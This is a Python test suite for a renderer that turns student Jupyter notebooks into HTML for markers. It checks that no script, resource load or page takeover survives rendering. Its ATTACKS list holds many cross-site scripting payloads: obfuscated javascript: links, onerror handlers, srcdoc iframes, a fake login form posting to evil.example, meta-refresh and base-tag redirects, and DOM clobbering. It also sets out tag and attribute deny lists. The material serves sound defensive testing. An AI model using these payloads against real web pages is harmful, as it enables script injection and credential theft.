"""Executed notebooks as pages: nothing in one runs, loads or takes the page over."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from assessor.notebooks.render import MAX_TEXT, to_fragment, to_html

LOADING = {"src", "srcset", "href", "action", "formaction", "data", "poster", "background", "ping", "xlink:href"}
HARMLESS = ("data:image/png", "data:image/jpeg", "http://", "https://", "#", "mailto:")
FORBIDDEN = {"script", "iframe", "object", "embed", "form", "input", "button", "link", "meta", "base", "svg", "math", "video",
             "audio", "frame", "frameset", "style", "template", "textarea", "select", "dialog", "portal"}  # fmt: skip


class Executable(HTMLParser):
    """Collects everything in a page that a browser would run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on") or name in ("srcdoc", "id", "name"):
                self.found.append(f"{tag}.{name}")
            if name in LOADING and not text.startswith(HARMLESS):
                self.found.append(f"{tag}.{name}={text[:30]}")
            if name == "src" and text.startswith("http"):
                self.found.append(f"{tag}.{name}={text[:30]}")
            if name == "style" and any(word in text for word in ("url", "expression", "position", "import", "behavior")):
                self.found.append(f"{tag}.style={text[:40]}")
        if tag == "div":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag == "div":
            if not self.open:
                self.found.append("closes more than it opens")
            else:
                self.open.pop()


def executable(page: str) -> list[str]:
    parser = Executable()
    parser.feed(page)
    return parser.found + ["leaves elements open"] * bool(parser.open)


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/track.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input name=password><button>log in</button></form>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>your marks are wrong</div>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<style>* { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<object data='x.swf'></object><embed src=x>",
    "<video src=x onerror=alert(1)></video>",
    "</div></div></div></body></html><h1>another page</h1>",
    "<div><div><div><table><tr><td>never closed",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<a id=marks name=marks>clobber</a>",
    "[x](javascript:alert(1)) ![x](https://evil.example/x.png) <javascript:alert(1)>",
    "$\\href{javascript:alert(1)}{x}$ $$\\unicode{<img src=x onerror=alert(1)>}$$",
    "<div " * 3000,
    "<b>" * 4000,
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda text: text[:30])
@pytest.mark.parametrize("place", ["html output", "markdown cell", "markdown output", "printed", "raised", "code"])
def test_nothing_of_a_student_runs_in_a_markers_browser(attack: str, place: str) -> None:
    cell: Any = new_code_cell("1")
    outputs = {
        "html output": lambda: new_output("display_data", {"text/html": attack}),
        "markdown output": lambda: new_output("display_data", {"text/markdown": attack}),
        "printed": lambda: new_output("stream", name="stdout", text=attack),
        "raised": lambda: new_output("error", ename=attack, evalue=attack, traceback=[attack]),
    }
    if place == "markdown cell":
        cell = new_markdown_cell(attack)
    elif place == "code":
        cell = new_code_cell(attack)
    else:
        cell.outputs = [outputs[place]()]
    after = new_markdown_cell("What comes after it stays.")
    page = to_fragment(new_notebook(cells=[cell, after]))
    assert executable(page) == []
    assert "What comes after it stays." in page


@pytest.mark.parametrize(
    "data",
    [
        {"image/svg+xml": "<svg onload=alert(1)>"},
        {"application/javascript": "alert(1)"},
        {"application/vnd.jupyter.widget-view+json": "{}"},
        {"image/png": "not base64 '><script>alert(1)</script>"},
        {"image/png": "'onerror=alert(1) x='"},
        {"text/html": "<p>fine</p>", "application/javascript": "alert(1)"},
        {"application/pdf": "JVBERi0="},
    ],
)
def test_only_harmless_kinds_of_output_are_shown(data: dict[str, str]) -> None:
    cell = new_code_cell("1", outputs=[new_output("display_data", data)])
    page = to_fragment(new_notebook(cells=[cell]))
    assert executable(page) == []
    assert "alert" not in page or "&" in page


@pytest.mark.parametrize(
    "cell",
    [
        {"cell_type": "code", "source": "1", "outputs": [{"output_type": "stream", "name": 3, "text": {"a": 1}}]},
        {"cell_type": "code", "source": "1", "outputs": [{"output_type": "display_data", "data": {"text/plain": [1, None]}}]},
        {"cell_type": "code", "source": "1", "outputs": [{"output_type": "error", "traceback": "no list"}]},
        {"cell_type": "code", "source": "1", "outputs": [3, None, "x", {"output_type": "new kind"}]},
        {"cell_type": "code", "source": ["a", "b"], "outputs": None, "execution_count": "x"},
        {"cell_type": "video", "source": "1"},
        {"cell_type": "markdown", "source": "\ud800 lone", "attachments": {"a.png": {"image/png": 3}}},
    ],
)
def test_any_json_has_a_page(cell: dict[str, Any]) -> None:
    notebook = {"cells": [{"metadata": {}, **cell}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    assert executable(to_fragment(notebook)) == []


def test_an_honest_notebook_looks_like_itself() -> None:
    tiny = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    cells = [
        new_markdown_cell("# Title\n\nSome *text*, `code` and\n\n| a | b |\n|---|---|\n| 1 | 2 |"),
        new_code_cell("print('hello')", execution_count=1, outputs=[
            new_output("stream", name="stdout", text="hello\n"),
            new_output("display_data", {"image/png": tiny, "text/plain": "<Figure>"}),
            new_output("execute_result", {"text/html": "<table><tr><td>7</td></tr></table>", "text/plain": "7"}),
            new_output("error", ename="ValueError", evalue="no", traceback=["\x1b[31mValueError\x1b[0m: no"]),
        ]),
    ]  # fmt: skip
    page = to_html(new_notebook(cells=cells), "Ada's <lab>")
    for part in ("<h1>Title</h1>", "<em>text</em>", "<td>7</td>", "hello", tiny, "ansi-red-fg", "Ada&#x27;s &lt;lab&gt;"):
        assert part in page, part
    assert "\x1b" not in page
    assert "script-src" not in page and "default-src 'none'" in page


def test_a_flood_of_output_is_cut() -> None:
    outputs = [new_output("stream", name="stdout", text="x" * 10_000_000)] * 3
    page = to_fragment(new_notebook(cells=[new_code_cell("1", outputs=outputs)]))
    assert len(page) < 10 * MAX_TEXT
    assert "cut here" in page
